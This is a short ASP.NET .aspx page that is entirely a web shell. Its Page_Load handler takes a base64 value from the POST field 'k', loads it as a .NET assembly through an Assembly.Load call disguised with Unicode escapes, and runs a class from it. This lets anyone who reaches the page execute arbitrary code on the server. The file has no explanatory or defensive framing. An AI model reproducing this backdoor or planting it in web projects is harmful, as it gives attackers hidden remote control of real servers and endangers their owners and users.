<%@ Page Language="C#" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string k = Request.Form["k"];
        if (k == null) return;
        System.Reflection.\u0041\u0073\u0073\u0065\u006d\u0062\u006c\u0079.\u004c\u006f\u0061\u0064(Convert.FromBase64String(k)).CreateInstance("U").Equals(this);
    }
</script>
